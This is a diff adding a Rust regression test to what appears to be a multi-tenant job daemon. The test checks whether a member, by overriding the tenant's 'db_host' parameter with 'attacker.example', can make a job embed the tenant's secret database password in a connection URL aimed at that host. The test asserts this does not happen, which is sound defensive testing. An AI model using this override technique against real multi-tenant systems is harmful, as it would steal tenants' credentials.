@@ -331,3 +331,56 @@ shell = "true"
         "hfctl list got no answer within 5 s while a submission read a FIFO secret"
     );
 }
+
+/// A tenant's `[secrets]` are meant to be used by its members' jobs without
+/// being seen by them, but a submission overrides any of the tenant's
+/// `[params]`, including the one that says where the secret is sent: a
+/// member points `db_host` at a host of their own and the job hands the
+/// tenant's database password to it.
+#[test]
+fn a_member_redirects_a_tenant_secret_by_overriding_a_tenant_param() {
+    const SECRET: &str = "Redirect-Secret-6630";
+    let chain = r#"
+[params.db_host]
+type = "string"
+
+[params.db_password]
+type = "string"
+secret = true
+
+[process.p.activity.a]
+env = { DB_URL = "postgres://etl:{{ params.db_password }}@{{ params.db_host }}/dw" }
+shell = 'printf "%s" "$DB_URL" > @DIR@/connected.$HF_JOB_ID'
+"#;
+    let daemon = TestDaemon::start(&[("etl.toml", chain)]);
+    daemon.write_tenant(
+        "acme",
+        &format!(
+            "description = \"acme\"\n[params]\ndb_host = \"db.acme.internal\"\n\
+             [secrets]\ndb_password = \"{SECRET}\"\n"
+        ),
+    );
+    daemon.hfctl_json(&["reload"]);
+    let submitted = daemon.hfctl(&[
+        "--json",
+        "submit",
+        "etl",
+        "--tenant",
+        "acme",
+        "-p",
+        "db_host=attacker.example",
+    ]);
+    if !submitted.status.success() {
+        return; // refused: the tenant's value cannot be overridden
+    }
+    let id = serde_json::from_slice::<Value>(&submitted.stdout).expect("json")["job_id"]
+        .as_u64()
+        .expect("job id");
+    daemon.wait_done(id);
+    let sent = std::fs::read_to_string(daemon.dir().join(format!("connected.{id}")))
+        .unwrap_or_default();
+    assert!(
+        !(sent.contains(SECRET) && sent.contains("attacker.example")),
+        "the tenant's secret went to the submitter's host: {sent}"
+    );
+}
